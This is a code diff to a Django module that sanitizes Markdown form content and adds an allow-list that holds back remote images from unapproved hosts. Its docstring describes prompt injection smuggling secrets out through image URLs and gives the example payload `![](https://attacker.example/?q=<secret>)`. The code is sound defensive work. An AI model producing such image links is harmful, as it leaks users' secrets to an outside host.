@@ -4,18 +4,30 @@ Form content is written by a workflow author and filled with workflow variables,
 output: it is untrusted. markdown-it renders it with raw HTML disabled, and nh3 (an allow-list
 sanitizer) cleans the result anyway, so a renderer bug or a future option cannot let markup
 through.
+
+Images are held back: one the content chose would be fetched as soon as a reviewer opens the
+form, telling its host who looked and when, and carrying off whatever a prompt injection put in
+its URL (`![](https://attacker.example/?q=<secret>)`). Only https images from the hosts in
+INBOX_MARKDOWN_IMAGE_HOSTS are shown; any other becomes a link the reviewer may choose to follow,
+marked as an image not loaded. The Content-Security-Policy allows the same hosts and no others.
 """
 
 from __future__ import annotations
 
 import html
 import re
+from collections.abc import Collection
 from dataclasses import dataclass
+from urllib.parse import urlsplit
 
 import nh3
+from django.conf import settings
 from django.utils.html import strip_tags
 from django.utils.safestring import SafeString, mark_safe
+from django.utils.translation import gettext
 from markdown_it import MarkdownIt
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
 
 # Dify marks where an input's field belongs with `{{#$output.<name>#}}`; its own form page splits
 # the content on this pattern and renders each piece separately, and so do we.
@@ -35,19 +47,52 @@ _ATTRIBUTES = {
     "td": {"align", "colspan", "rowspan"},
     "code": {"class"},
 }
+# The marker after an image not loaded: the only class content may carry, and only this one.
+_BLOCKED_CLASS = "image-blocked"
+_ATTRIBUTE_VALUES = {"span": {"class": {_BLOCKED_CLASS}}}
+# No data: either: an image inlined in the content is as much the content's choice as a remote one.
 _URL_SCHEMES = {"http", "https", "mailto"}
 
 _md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(
     ["table", "strikethrough"]
 )
+_plain = RendererHTML()  # an image's alt text, as the browser would show it
+
+
+def image_allowed(src: str, hosts: Collection[str]) -> bool:
+    """Whether an image at `src` may be loaded: https, on one of `hosts`, at the default port,
+    with no user name (what a browser would take for the host is what is checked)."""
+    try:
+        parts = urlsplit(src)
+        port = parts.port
+    except ValueError:
+        return False
+    return (
+        parts.scheme.lower() == "https"
+        and parts.hostname in hosts
+        and port in (None, 443)
+        and parts.username is None
+        and parts.password is None
+    )
 
 
 def sanitize(html: str) -> SafeString:
-    """Keep only harmless markup: no scripts, handlers, styles, frames or non-web URLs."""
+    """Keep only harmless markup: no scripts, handlers, styles, frames or non-web URLs, and no
+    image from a host not allowed (render_markdown has already made those links; this catches
+    an image that reached the sanitizer any other way, which is left without a source)."""
+    hosts = frozenset(settings.INBOX_MARKDOWN_IMAGE_HOSTS)
+
+    def allowed_images_only(tag: str, attribute: str, value: str) -> str | None:
+        if tag == "img" and attribute == "src" and not image_allowed(value, hosts):
+            return None
+        return value
+
     cleaned = nh3.clean(
         html,
         tags=_TAGS,
         attributes=_ATTRIBUTES,
+        tag_attribute_values=_ATTRIBUTE_VALUES,
+        attribute_filter=allowed_images_only,
         url_schemes=_URL_SCHEMES,
         # Links open content the workflow chose; they must not reach back into our page.
         link_rel="noopener noreferrer nofollow",
@@ -56,12 +101,66 @@ def sanitize(html: str) -> SafeString:
     return mark_safe(cleaned)  # noqa: S308 - nh3 output is the allow-listed subset
 
 
+def _image_not_loaded(image: Token, inside_link: bool) -> list[Token]:
+    """An image held back: a link to it (its alt text, else its host, as the link's text) and a
+    marker saying it is an image not loaded. Inside a link, where a second link cannot go, and
+    for a URL that is not a web address (a data: image, a relative path), the text and the
+    marker only."""
+    src = str(image.attrGet("src") or "")
+    try:
+        parts = urlsplit(src)
+        host = (parts.hostname or "") if parts.scheme.lower() in ("http", "https") else ""
+    except ValueError:
+        host = ""
+    alt = _plain.renderInlineAsText(image.children or [], _md.options, {}).strip()
+    tokens: list[Token] = []
+    if host and not inside_link:
+        link = Token("link_open", "a", 1, attrs={"href": src})
+        if image.attrGet("title"):
+            link.attrSet("title", str(image.attrGet("title")))
+        tokens += [link, Token("text", "", 0, content=alt or host), Token("link_close", "a", -1)]
+    elif alt:
+        tokens.append(Token("text", "", 0, content=alt))
+    marker = (
+        gettext("Image not loaded: %(host)s") % {"host": host}
+        if host
+        else gettext("Image not loaded")
+    )
+    if tokens:
+        tokens.append(Token("text", "", 0, content=" "))
+    return [
+        *tokens,
+        Token("image_blocked_open", "span", 1, attrs={"class": _BLOCKED_CLASS}),
+        Token("text", "", 0, content=marker),
+        Token("image_blocked_close", "span", -1),
+    ]
+
+
+def _hold_back_images(tokens: list[Token], hosts: Collection[str]) -> None:
+    for block in tokens:
+        if block.type != "inline" or not block.children:
+            continue
+        children: list[Token] = []
+        links = 0
+        for token in block.children:
+            if token.type == "link_open":
+                links += 1
+            elif token.type == "link_close":
+                links -= 1
+            if token.type == "image" and not image_allowed(str(token.attrGet("src") or ""), hosts):
+                children += _image_not_loaded(token, inside_link=links > 0)
+            else:
+                children.append(token)
+        block.children = children
+
+
 def render_markdown(text: str) -> SafeString:
     tokens = _md.parse(text or "")
     for token in tokens:
         # The page has its own h1 and h2; content headings sit below them in the outline.
         if token.type in ("heading_open", "heading_close"):
             token.tag = f"h{min(int(token.tag[1]) + 2, 6)}"
+    _hold_back_images(tokens, frozenset(settings.INBOX_MARKDOWN_IMAGE_HOSTS))
     return sanitize(_md.renderer.render(tokens, _md.options, {}))
 
 
